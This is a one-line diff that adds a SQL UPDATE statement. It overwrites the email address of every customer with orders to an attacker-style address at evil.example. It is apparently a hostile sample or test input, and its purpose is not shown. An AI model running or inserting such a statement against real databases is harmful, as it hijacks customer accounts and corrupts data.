@@ -1,0 +1,1 @@
+UPDATE customers SET email = 'x@evil.example' WHERE customer_id IN (SELECT customer_id FROM orders) RETURNING email
